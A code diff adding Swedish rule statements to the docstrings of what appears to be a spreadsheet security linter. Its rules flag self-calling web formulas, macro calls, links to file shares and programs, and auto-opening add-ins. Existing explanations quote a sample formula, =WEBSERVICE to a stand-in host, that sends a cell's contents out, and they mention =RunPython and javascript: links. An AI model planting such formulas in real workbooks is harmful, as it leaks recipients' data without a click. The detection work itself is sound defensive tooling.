@@ -29,6 +29,9 @@ def asks_by_itself(case: Case) -> Iterator[Hit]:
     CUBE; pictures and other parts that are fetched from elsewhere; connections that reload when
     the workbook is opened. Looked for wherever a formula can stand, as KAL806 does.
 
+    ## Regel
+    Inget i arbetsboken frågar en adress av sig självt när den öppnas eller räknas om.
+
     ## Varför
     En formel som ``=WEBSERVICE("http://exempel.test/?"&B3)`` skickar innehållet i B3 till adressen.
     Det sker hos mottagaren, utan att någon klickar.
@@ -65,6 +68,9 @@ def calls_a_macro(case: Case) -> Iterator[Hit]:
     The add-in's own functions, whose names begin with ``KALKYL_``, are none; nor are functions
     that the workbook defines with LAMBDA. Looked for wherever a formula can stand.
 
+    ## Regel
+    Ingen formel anropar en funktion som Excel inte har själv, och inget namn står för ett makro.
+
     ## Varför
     En sådan formel kör ett makro i något tillägg som mottagaren har, så snart arbetsboken räknas
     om: ``=RunPython("…")`` kan köra vad avsändaren vill.
@@ -100,6 +106,10 @@ def leads_outside(case: Case) -> Iterator[Hit]:
 
     A web address that a formula puts together from cells counts too.
 
+    ## Regel
+    Länkar leder till arbetsbokens celler eller till webbsidor, inte till filer, delade mappar eller
+    program.
+
     ## Varför
     En länk till en delad mapp (``file:`` eller två omvända snedstreck) skickar inloggningen dit när
     någon klickar. En adress som ``ms-word:`` eller ``javascript:`` startar ett program.
@@ -131,6 +141,9 @@ def leads_outside(case: Case) -> Iterator[Hit]:
 )
 def macro_at_a_click(case: Case) -> Iterator[Hit]:
     """No shape, picture, control or button of a workbook runs a macro.
+
+    ## Regel
+    Ingen figur, bild, kontroll eller knapp i arbetsboken kör ett makro.
 
     ## Varför
     Makrot kan finnas i ett tillägg hos den som klickar, så att arbetsboken själv inte behöver ha
@@ -164,6 +177,9 @@ def web_addin(case: Case) -> Iterator[Hit]:
     """A workbook opens no web add-in or task pane by itself.
 
     One that waits until somebody opens it is KAL808.
+
+    ## Regel
+    En arbetsbok öppnar inget webbtillägg och ingen åtgärdsruta av sig själv.
 
     ## Varför
     Ett webbtillägg är en webbsida hos någon annan, som kan läsa och skicka det som står i
